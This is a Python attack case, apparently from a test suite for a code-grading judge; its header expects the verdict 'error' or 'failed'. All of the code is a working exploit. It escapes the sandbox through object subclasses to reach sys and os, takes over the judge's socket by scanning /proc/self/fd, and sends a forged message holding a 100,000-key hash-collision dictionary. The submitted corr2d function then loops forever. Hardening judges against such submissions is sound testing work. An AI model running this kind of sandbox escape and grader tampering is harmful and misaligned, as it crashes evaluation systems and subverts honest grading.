# /// attack
# rows = [66]
# title = "answer with a dictionary whose keys all have one hash, for the judge to build"
# verdict = ["error", "failed"]
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, struct = sys.modules["os"], sys.modules["struct"]
socket = sys.modules["importlib"].import_module("socket")
judge = next(
    socket.socket(fileno=os.dup(n))
    for n in range(3, 1000)
    if os.path.exists(f"/proc/self/fd/{n}") and "socket" in os.readlink(f"/proc/self/fd/{n}")
)
judge.setblocking(True)
PRIME = 2**61 - 1
PAIRS = ",".join(f"[{PRIME * n},0]" for n in range(1, 100_001))
HEADER = f'[["d",{PAIRS}]]'.encode()


def corr2d(X, K):
    frame = sys._getframe()
    while type(frame.f_locals.get("number")) is not int:
        frame = frame.f_back
    judge.sendall(struct.pack("<QIQ", frame.f_locals["number"], len(HEADER), 0) + HEADER)
    while True:
        pass
